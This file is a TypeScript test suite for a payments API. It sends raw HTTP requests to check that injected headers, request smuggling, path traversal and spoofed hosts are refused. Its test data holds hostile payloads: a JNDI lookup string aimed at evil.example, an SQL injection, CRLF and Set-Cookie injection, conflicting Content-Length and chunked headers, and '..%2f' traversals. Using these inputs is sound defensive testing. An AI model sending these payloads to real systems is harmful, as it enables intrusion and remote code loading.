/** Requests that no client library sends: injected headers, smuggled requests, paths that play tricks. Over a real socket. */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { apiUnderTest } from '../api/support/api-under-test.ts';
import { CREATE_BODY } from '../api/support/requests.ts';
import { listenRaw, type RawAnswer, type RawServer, rawRequest } from './support/raw-http.ts';

const api = apiUnderTest();
let server: RawServer;
let authorization: string;

beforeAll(async () => {
  server = await listenRaw(api.app);
  authorization = `Authorization: Bearer ${await api.keys.sign()}`;
});
afterAll(() => server.close());

/** Whatever was sent: one JSON object per line, and nothing that a terminal or a viewer would obey. */
afterEach(() => {
  for (const line of api.log) {
    expect(line).toMatch(/^[^\p{Cc}\u2028-\u202e\u2066-\u2069]+\n$/u);
    expect(JSON.parse(line)).toMatchObject({ process: 'api', level: 'info' });
  }
  expect(api.workflows.calls).toEqual([]);
});

async function sendOne(bytes: string): Promise<RawAnswer> {
  const [answer, ...more] = await server.send(bytes);
  expect(more).toEqual([]);
  return answer ?? { status: 0, head: '', body: '' };
}

describe('what is written into headers', () => {
  const HOSTILE = [
    '\u001b[2J\u001b[1;31mroot',
    'x\u0000y',
    'a\u009b31m',
    'é\u0085next',
    '${jndi:ldap://evil.example/a}',
    "' or 1=1 --",
    'x'.repeat(8_000),
  ];
  it.each(HOSTILE)('reaches neither a log line nor an answer, nor fails anything: %j', async (value) => {
    for (const name of ['X-Request-Id', 'Accept-Language', 'User-Agent', 'X-Forwarded-For', 'traceparent']) {
      const { status, head, body } = await sendOne(
        rawRequest('GET /api/v1/payments/me', [authorization, `${name}: ${value}`]),
      );
      expect([200, 400]).toContain(status);
      expect(head + body).not.toContain(value);
      expect(api.log.join('')).not.toContain(value);
    }
  });

  it.each([
    'Idempotency-Key: a\rb',
    'Idempotency-Key: a\nb',
    'Idempotency-Key: a\r\n b',
    'Bad Name: x',
    'X : y',
  ])('is refused by the parser itself when it would begin another line: %j', async (header) => {
    const bytes = post('/api/v1/payments', CREATE_BODY, [authorization, header]);
    expect((await sendOne(bytes)).status).toBe(400);
  });

  it('counts once: of two tokens, or two keys, neither is chosen', async () => {
    const bobs = `Authorization: Bearer ${await api.keys.sign({ sub: 'bob' })}`;
    for (const both of [
      [authorization, bobs],
      [bobs, authorization],
    ])
      expect((await sendOne(rawRequest('GET /api/v1/payments/me', both))).status).toBe(401);
    const keys = ['Idempotency-Key: one', 'Idempotency-Key: two'];
    const { status, body } = await sendOne(post('/api/v1/payments', CREATE_BODY, [authorization, ...keys]));
    expect([status, body]).toEqual([400, expect.stringContaining('/header/Idempotency-Key')]);
  });

  it('in numbers or sizes without end is refused before the app hears of it', async () => {
    const many = Array.from({ length: 5_000 }, (_, index) => `X-${index}: y`);
    expect((await sendOne(rawRequest('GET /health/live', many))).status).toBe(431);
    const long = `X-Long: ${'x'.repeat(100_000)}`;
    expect((await sendOne(rawRequest('GET /health/live', [long]))).status).toBe(431);
  });
});

describe('a request within a request', () => {
  const inner = 'GET /api/v1/payments/me HTTP/1.1\r\nHost: x\r\n\r\n';
  it.each([
    ['two lengths', ['Content-Length: 0', `Content-Length: ${inner.length}`]],
    ['a length and chunks', [`Content-Length: ${inner.length}`, 'Transfer-Encoding: chunked']],
    ['chunks of another name', ['Transfer-Encoding: xchunked']],
    ['chunks named twice', ['Transfer-Encoding: chunked, identity']],
    ['a length in hex', [`Content-Length: 0x${inner.length.toString(16)}`]],
    ['a length with a sign', [`Content-Length: +${inner.length}`]],
  ])('is refused by %s, and the inner one is never answered', async (_what, headers) => {
    const answers = await server.send(
      rawRequest(
        'POST /api/v1/payments',
        [authorization, 'Content-Type: application/json', ...headers],
        inner,
      ),
    );
    expect(answers.map(({ status }) => status)).toEqual([400]);
  });

  it('does not follow a body that is longer than it said', async () => {
    const headers = [authorization, 'Content-Type: application/json', 'Content-Length: 2'];
    const answers = await server.send(rawRequest('POST /api/v1/payments', headers, `{}${inner}`));
    expect(answers.map(({ status }) => status)).toEqual([400]);
    // The parser has refused the rest before the app was done with what came first.
    await expect.poll(() => api.log.length).toBe(1);
  });
});

describe('a client that hangs up while it sends', () => {
  it.each(['/api/v1/payments', '/api/v1/payments/complete'])('is no error of ours, at %s', async (path) => {
    const headers = [authorization, 'Content-Type: application/json', 'Content-Length: 1000'];
    await server.sendAndHangUp(rawRequest(`POST ${path}`, headers, '{"orderId":'));
    await expect.poll(() => api.log.length).toBe(1);
    expect(api.log[0]).toContain('"status":400');
  });
});

describe('a path', () => {
  const get = (path: string, headers: string[] = [authorization]) =>
    sendOne(rawRequest(`GET ${path}`, headers));

  it.each([
    '/api/v1/payments/me/',
    '/api/v1/payments/me%2F',
    '/api/v1/payments%2Fme',
    '/api/v1/payments/%6d%65/..',
    '/api/v1//payments/me',
    '/api/v1/payments/me;v=1',
    '/api/v1/payments/me%00',
    '/api/v1/payments/me%0d%0aSet-Cookie:%20a=b',
    '/api/v1/payments/%252e%252e%252fme',
    '/api/v1/payments/..%2f..%2fdocs',
    '/api/v1/payments/%E0%80%AF',
    '/api/v1/payments/%',
    `/api/v1/payments/${'x'.repeat(10_000)}`,
    '/api/v1/payments/%1b%5b2J%c2%9b31m%e2%80%ae',
    '/api/v1/payments/hong%40example.com',
    '/docs/..%2f..%2fpackage.json',
    '/docs/%2e%2e/%2e%2e/package.json',
    '/docs//swagger-ui.css',
    '/docs/swagger-ui.css%00.js',
    '/openapi.json/',
  ])('that is not exactly a route is 404: %s', async (path) => {
    const { status, head } = await get(path);
    expect(status).toBe(404);
    expect(head).not.toContain('Set-Cookie');
    expect(api.log.join('')).not.toContain('hong');
  });

  it('is resolved before it is judged: dots lead around no authentication', async () => {
    for (const path of [
      '/health/../api/v1/payments/me',
      '/docs/%2e%2e/api/v1/payments/me',
      '/./api/v1/payments/me',
    ])
      expect((await get(path, [])).status).toBe(401);
  });

  it('of a whole address, or with another host, is judged by its path alone', async () => {
    expect((await get('http://evil.example/api/v1/payments/me', [])).status).toBe(401);
    expect((await get('http://evil.example/health/live', [])).status).toBe(200);
    const hosts = ['evil.example', '127.0.0.1@evil.example', 'a b', '[', 'x/../y', 'x?y#z', ''];
    for (const host of hosts) {
      const bytes = rawRequest('GET /api/v1/payments/me').replace('Host: 127.0.0.1', `Host: ${host}`);
      expect([400, 401]).toContain((await sendOne(bytes)).status);
    }
    const twice = rawRequest('GET /api/v1/payments/me', ['Host: health/live?']);
    expect((await sendOne(twice)).status).toBe(401);
    expect((await get('/\\..\\package.json', [])).status).toBe(400);
  });

  it.each([
    'CONNECT evil.example:443',
    'TRACE /api/v1/payments/me',
    'PRI *',
    'OPTIONS *',
    'GET *',
    'G\u0000T /',
  ])('and method that are no request for us end in a refusal: %j', async (line) => {
    const [answer] = await server.send(rawRequest(line, [authorization]));
    expect(answer?.status ?? 400).toBeGreaterThanOrEqual(400);
    expect(answer?.status ?? 400).toBeLessThan(500);
  });

  it('longer than any header may be is refused before the app hears of it', async () => {
    expect((await get(`/${'x'.repeat(100_000)}`)).status).toBe(431);
    expect(api.log).toEqual([]);
  });
});

function post(path: string, body: object, headers: readonly string[]): string {
  const text = JSON.stringify(body);
  const length = `Content-Length: ${Buffer.byteLength(text)}`;
  return rawRequest(
    `POST ${path}`,
    ['Content-Type: application/json', length, ...headers],
    Buffer.from(text).toString('latin1'),
  );
}
